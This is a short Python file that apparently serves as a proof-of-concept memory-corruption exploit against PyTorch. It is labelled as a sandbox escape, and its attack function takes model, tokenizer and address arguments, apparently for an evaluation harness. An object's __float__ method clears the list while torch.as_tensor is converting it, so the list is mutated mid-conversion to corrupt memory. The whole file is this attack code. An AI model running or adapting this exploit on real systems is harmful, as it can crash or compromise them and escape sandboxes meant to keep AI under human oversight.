"""Class: memory. Source: own find. Escape: the same, by torch.as_tensor."""

import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    torch.as_tensor(data, dtype=torch.float64)
